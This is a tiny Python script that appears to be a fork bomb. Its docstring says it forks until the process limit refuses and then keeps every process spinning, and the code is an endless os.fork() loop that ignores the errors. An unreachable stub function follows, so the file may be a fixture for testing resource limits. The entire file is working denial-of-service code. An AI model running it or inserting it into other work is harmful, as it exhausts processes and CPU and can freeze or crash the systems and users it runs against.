"""Fork until the process cap refuses, then keep spinning in every process."""
import os

while True:
    try:
        os.fork()
    except OSError:
        pass


def f():
    return 1
